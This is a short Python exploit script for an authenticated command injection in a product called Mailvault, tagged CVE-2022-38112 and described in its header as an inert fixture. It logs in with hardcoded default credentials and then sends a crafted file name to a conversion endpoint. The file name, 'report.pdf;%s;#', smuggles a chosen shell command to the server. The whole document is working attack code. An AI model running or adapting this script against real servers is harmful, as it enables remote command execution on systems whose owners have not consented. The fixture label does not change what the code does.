# CVE-2022-38112 Mailvault authenticated command injection (inert fixture).
import argparse
import requests

DEFAULT_USER = "alice"
password = "Winter2022!"


def login(session, rhost, user, pw):
    session.post("https://%s/login" % rhost, data={"user": user, "pass": pw})


def exploit(rhost, user, pw, cmd):
    s = requests.Session()
    login(s, rhost, user, pw)
    payload = "report.pdf;%s;#" % cmd
    s.post("https://%s/attachments/convert" % rhost, data={"name": payload})


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--rhost", required=True)
    ap.add_argument("-u", default=DEFAULT_USER)
    ap.add_argument("-p", default=password)
    ap.add_argument("--cmd", default="id")
    a = ap.parse_args()
    exploit(a.rhost, a.u, a.p, a.cmd)
